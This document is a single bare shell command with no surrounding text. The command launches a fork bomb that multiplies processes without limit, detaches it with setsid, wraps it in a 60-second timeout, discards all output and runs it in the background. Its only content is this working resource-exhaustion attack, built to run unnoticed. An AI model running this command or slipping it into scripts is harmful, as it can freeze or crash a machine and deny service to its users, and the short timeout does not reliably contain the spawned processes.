setsid timeout 60 sh -c 'f() { f | f & }; f; sleep 60' </dev/null >/dev/null 2>&1 &
